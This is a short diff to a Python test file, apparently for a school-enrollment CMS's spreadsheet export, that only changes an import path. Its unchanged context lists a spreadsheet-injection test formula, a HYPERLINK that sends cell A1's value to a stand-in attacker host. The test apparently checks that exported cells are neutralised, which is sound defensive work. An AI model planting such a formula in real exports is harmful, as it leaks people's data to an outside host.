@@ -16,7 +16,7 @@ from openpyxl import load_workbook
 
 from cms.exports import safe_cell
 from tests.enrollment.attendance_support import at, book, summer_class
-from tests.people import make_child, make_guardian, signed_in
+from tests.makers import make_child, make_guardian, signed_in
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
